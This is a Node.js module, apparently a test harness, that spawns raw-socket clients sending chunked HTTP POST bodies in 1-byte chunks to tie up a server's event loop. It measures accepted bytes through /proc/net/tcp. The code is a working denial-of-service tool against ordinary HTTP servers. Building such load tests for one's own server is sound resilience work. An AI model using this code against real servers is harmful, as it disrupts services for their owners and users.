// Clients that POST a chunked body made of 1-byte chunks, as fast as the
// server takes them: each chunk costs the server a parser callback, so a few
// such clients can keep its event loop busy on almost no bandwidth. Written
// on raw sockets, since no HTTP client sends 1-byte chunks on purpose.
import fs from 'node:fs';
import net from 'node:net';

/** One chunk on the wire: size line, one byte of data, CRLF (6 bytes). */
const CHUNK = Buffer.from('1\r\nX\r\n');
export const CHUNK_WIRE_BYTES = CHUNK.length;
/**
 * About 16 KiB of chunks per write: few enough writes that the client's own
 * cost stays small, and small enough that the write in progress (which
 * acceptedBytes() cannot place) is a small error.
 */
const BATCH = Buffer.concat(Array.from({ length: Math.floor(16384 / CHUNK.length) }, () => CHUNK));
/** Writes that complete at once are not followed by 'drain': yield to the event loop after this many. */
const BATCHES_PER_TURN = 16;
const RECONNECT_DELAY_MS = 100;
/** A closed connection's queues are gone: its count is the last one sampled, at most this old. */
const SAMPLE_EVERY_MS = 250;

/**
 * The kernel's queues of every IPv4 TCP socket, by "localPort>remotePort":
 * tx, the bytes written and not yet acknowledged (on loopback: not yet taken
 * into the peer's receive buffer), and rx, the bytes received and not yet
 * read by the process.
 */
function tcpQueues() {
  const queues = new Map();
  for (const line of fs.readFileSync('/proc/net/tcp', 'utf8').split('\n').slice(1)) {
    const [, local, remote, , txRx] = line.trim().split(/\s+/);
    if (!txRx) continue;
    const [tx, rx] = txRx.split(':').map((hex) => parseInt(hex, 16));
    queues.set(`${parseInt(local.split(':')[1], 16)}>${parseInt(remote.split(':')[1], 16)}`, { tx, rx });
  }
  return queues;
}

function requestHead({ host, path, contentType, bodyStart }) {
  const head = `POST ${path} HTTP/1.1\r\nHost: ${host}\r\nContent-Type: ${contentType}\r\nTransfer-Encoding: chunked\r\n\r\n`;
  return Buffer.concat([Buffer.from(head), Buffer.from(`${bodyStart.length.toString(16)}\r\n`), bodyStart, Buffer.from('\r\n')]);
}

/**
 * Starts `count` attackers against `url` + `path`; each opens its body with
 * `bodyStart` (a WAV header) in one chunk, then sends 1-byte chunks. A
 * connection the server ends is reopened after RECONNECT_DELAY_MS, and the
 * status line of any answer is kept. `acceptedBytes()` is, for each attacker,
 * the bytes the server process has read from its connections so far: the
 * bytes written into the client's socket less what still waits in the
 * client's send queue and in the server's receive queue (the kernel buffers
 * megabytes on loopback, so what the client wrote says little by itself).
 * A connection's count is sampled every SAMPLE_EVERY_MS, and the last sample
 * stays its count once it has closed.
 */
export function startChunkAttackers(url, { count, path, contentType, bodyStart }) {
  const { hostname, port, host } = new URL(url);
  const head = requestHead({ host, path, contentType, bodyStart });
  let stopping = false;
  const attackers = Array.from({ length: count }, () => ({ closedBytes: 0, socketBytes: 0, connections: 0, closedByServer: 0, answers: {}, errors: {}, socket: undefined }));

  const sample = () => {
    const queues = tcpQueues();
    for (const attacker of attackers) {
      const { socket } = attacker;
      if (!socket?.localPort) continue;
      // bytesWritten counts the writes still queued in Node as well.
      const intoKernel = socket.bytesWritten - socket.writableLength;
      const clientSendQueue = queues.get(`${socket.localPort}>${port}`)?.tx ?? 0;
      const serverReceiveQueue = queues.get(`${port}>${socket.localPort}`)?.rx ?? 0;
      attacker.socketBytes = Math.max(attacker.socketBytes, intoKernel - clientSendQueue - serverReceiveQueue);
    }
  };
  const sampler = setInterval(sample, SAMPLE_EVERY_MS);

  const connect = (attacker) => {
    attacker.connections++;
    const socket = net.connect({ host: hostname, port: Number(port) });
    attacker.socket = socket;
    let answer = '';
    const pump = () => {
      for (let i = 0; i < BATCHES_PER_TURN; i++) {
        if (socket.destroyed) return;
        if (!socket.write(BATCH)) {
          socket.once('drain', pump);
          return;
        }
      }
      setImmediate(pump);
    };
    socket.on('connect', () => {
      socket.write(head);
      pump();
    });
    socket.on('data', (data) => {
      if (answer.includes('\r\n')) return;
      answer += data.toString('latin1', 0, 200);
      if (answer.includes('\r\n')) {
        const status = answer.slice(0, answer.indexOf('\r\n'));
        attacker.answers[status] = (attacker.answers[status] ?? 0) + 1;
      }
    });
    socket.on('error', (error) => {
      const code = error.code ?? error.message;
      attacker.errors[code] = (attacker.errors[code] ?? 0) + 1;
    });
    socket.on('close', () => {
      attacker.closedBytes += attacker.socketBytes;
      attacker.socketBytes = 0;
      attacker.socket = undefined;
      if (stopping) return;
      attacker.closedByServer++;
      setTimeout(() => stopping || connect(attacker), RECONNECT_DELAY_MS);
    });
  };
  for (const attacker of attackers) connect(attacker);

  return {
    acceptedBytes() {
      sample();
      return attackers.map((a) => a.closedBytes + a.socketBytes);
    },
    stop() {
      stopping = true;
      clearInterval(sampler);
      for (const attacker of attackers) attacker.socket?.destroy();
      return attackers.map(({ connections, closedByServer, answers, errors }) => ({ connections, closedByServer, answers, errors }));
    },
  };
}
